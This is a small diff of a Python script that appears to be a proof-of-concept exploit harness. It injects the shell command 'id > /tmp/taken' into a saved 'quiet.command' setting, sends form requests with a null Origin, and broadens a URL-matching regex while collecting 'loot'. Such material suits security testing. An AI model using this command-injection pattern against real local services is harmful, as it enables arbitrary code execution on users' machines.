@@ -23,7 +23,7 @@ from urllib.request import url2pathname
 NOBODY = 65534
 SAVE = json.dumps({"act": "save", "values": {"quiet.command": "id > /tmp/taken"}})
 FORM = {"Content-Type": "application/x-www-form-urlencoded", "Origin": "null"}
-ADDRESS = re.compile(rb"(?:http://127\.0\.0\.1:\d+|file://)/[^\s\0\"']+")
+ADDRESS = re.compile(rb"(?:http|file)://[^\s\0\"']+")
 
 loot: dict[str, list[str]] = {"seen": [], "served": [], "read": [], "saved": []}
 knocked = 0
